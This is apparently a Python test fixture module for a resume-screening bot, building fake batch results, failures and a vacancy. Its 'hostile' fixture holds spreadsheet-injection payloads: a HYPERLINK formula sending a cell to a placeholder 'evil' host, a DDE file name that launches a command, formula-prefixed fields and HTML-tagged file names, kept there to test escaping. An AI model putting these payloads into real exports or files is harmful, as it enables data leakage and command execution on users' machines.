"""Made-up results of batches."""

from datetime import UTC, datetime
from typing import Any

from domain.batch import Batch, BatchItem
from domain.failure import Failure
from domain.resume import FieldEvidence, Job, Resume
from domain.score import Assessment, Explanation, ModelIdentity, Score
from domain.vacancy import Vacancy
from tests.bot.people import RESUME, START, analysis
from usecases.batches.rank import rank_candidates
from usecases.batches.result import BatchResult, FailedFile

HOSTILE = '=HYPERLINK("http://evil/"&A1)'


def batch(**about: Any) -> Batch:
    values = {"id": 5, "user_id": 1, "chat_id": 1, "locale": "ru", "origin": "message:1"}
    return Batch.model_validate(values | {"state": "done", "created_at": START} | about)


def item(number: int, **about: Any) -> BatchItem:
    values = {"id": number, "batch_id": 5, "place": number, "source": None, "state": "done"}
    return BatchItem.model_validate(values | {"file_name": f"{number}.pdf"} | about)


def result(
    candidates: int = 3, failures: int = 0, *, noise: float | None = None, **about: Any
) -> BatchResult:
    """Each candidate is one point of probability below the one before."""
    scored = []
    for number in range(1, candidates + 1):
        one = analysis(number, resume=RESUME, noise=noise)
        score = one.assessment.score.model_copy(
            update={"probability": 0.9 - number / 100, "score": 90.0 - number / 4}
        )
        assessment = one.assessment.model_copy(update={"score": score})
        evidence = {
            "city": FieldEvidence(confidence=0.5, page=2, line=7),
            "position": FieldEvidence(confidence=1, page=1),
        }
        about_item = {"analysis_id": number, "evidence": evidence}
        scored.append(
            (item(number, **about_item), one.model_copy(update={"assessment": assessment}))
        )
    twins = {1: [item(801, file_name="копия <1>.pdf", duplicate_of=1, state="duplicate")]}
    failed = [
        FailedFile(
            item(900 + at, file_name=f"<b>{at}</b>.exe", state="failed", failure=failure(at)), ()
        )
        for at in range(failures)
    ]
    return BatchResult(
        batch=batch(**about),
        vacancy=None,
        candidates=rank_candidates(scored, twins if candidates else {}),
        failures=tuple(failed),
        total=candidates + failures + bool(candidates),
        unfinished=0,
        hidden=frozenset(about.get("hidden", ())),
    )


def failure(number: int) -> Failure:
    kinds = (
        Failure(code="unsupported", facts={"media_type": "application/zip"}),
        Failure(code="too_large", facts={"limit_bytes": 20 << 20}),
        Failure(code="too_complex", facts={"what": "pages", "limit": 50}),
        Failure(code="empty", facts={"ocr_available": True}),
        *(Failure(code="download"), Failure(code="scoring"), Failure(code="set_aside")),
        *(Failure(code="nothing_to_score"), Failure(code="encrypted"), Failure(code="damaged")),
        *(Failure(code="timeout", facts={"limit_seconds": 10.0}), Failure(code="not_a_resume")),
        Failure(code="too_complex", facts={"what": "batch_items", "limit": 200}),
    )
    return kinds[number % len(kinds)]


KINDS_OF_FAILURE = 13


def hostile() -> BatchResult:
    """One candidate all of whose words want to be formulas."""
    resume = Resume(
        position=HOSTILE,
        city="\t@SUM(1)",
        key_skills=("+1", "\ud800 lone"),
        work_experience=(Job(start="2020-01", current=True, description="-2+3" + "x" * 40_000),),
    )
    one = analysis(1, resume=resume)
    scored = [(item(1, file_name="=cmd|'/c calc'!A1", analysis_id=1), one)]
    return BatchResult(batch(), None, rank_candidates(scored, {}), (), 1, 0)


def vacancy(title: str = "Аналитик <Senior> & Co") -> Vacancy:
    now = datetime(2026, 11, 1, tzinfo=UTC)
    return Vacancy(id=3, user_id=1, title=title, created_at=now)


__all__ = [
    "Assessment",
    "Explanation",
    "ModelIdentity",
    "Score",
    "batch",
    "hostile",
    "item",
    "result",
    "vacancy",
]
